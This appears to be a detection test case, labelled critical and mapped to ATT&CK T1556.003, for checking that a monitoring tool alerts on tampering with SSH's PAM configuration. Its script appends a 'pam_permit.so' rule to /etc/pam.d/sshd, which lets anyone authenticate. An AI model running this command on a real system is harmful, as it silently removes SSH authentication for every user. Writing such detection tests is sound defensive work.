# id: E04
# title: A rule of PAM lets everybody in
# expect: alert
# severity: critical
# kinds: file
# attck: T1556.003
# image: tools
# launch: app

mkdir -p /etc/pam.d
echo 'auth sufficient pam_permit.so' >>/etc/pam.d/sshd
